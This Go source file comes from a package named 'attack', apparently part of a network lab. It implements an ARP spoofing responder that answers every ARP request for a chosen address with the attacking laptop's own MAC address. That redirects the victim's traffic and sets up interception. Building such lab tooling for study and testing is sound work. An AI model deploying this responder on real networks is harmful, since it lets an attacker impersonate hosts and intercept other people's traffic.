package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"

	"golang.org/x/sys/unix"

	"topdog/internal/lab/frame"
)

// arp is a message of ARP to everybody: a station says that it has an address, and asks for another
// one or answers for it.
func arp(reply bool, mac net.HardwareAddr, address, target netip.Addr) []byte {
	return frame.ARP{Reply: reply, MAC: mac, Sender: address, Target: target}.Frame(frame.Broadcast)
}

// answerARP answers for an address whenever somebody asks who has it, until ctx ends.
func (l *Laptop) answerARP(ctx context.Context, address netip.Addr) (answers int, err error) {
	socket, err := l.host.Capture(unix.ETH_P_ARP)
	if err == nil {
		defer socket.Close()
		defer context.AfterFunc(ctx, func() { socket.Close() })()
		answers, err = l.answerUntilClosed(socket, address)
	}
	if err != nil {
		return answers, fmt.Errorf("attack: answer for %v: %w", address, err)
	}
	return answers, nil
}

func (l *Laptop) answerUntilClosed(socket *frame.Socket, address netip.Addr) (answers int, err error) {
	for {
		f, err := socket.Read()
		if err == nil {
			question, ok := f.ARP()
			if !ok || question.Reply || question.Target != address || bytes.Equal(question.MAC, l.host.HardwareAddr) {
				continue
			}
			err = socket.Send(arp(true, l.host.HardwareAddr, address, address))
		}
		switch {
		case errors.Is(err, os.ErrClosed):
			return answers, nil
		case err != nil:
			return answers, err
		}
		answers++
	}
}
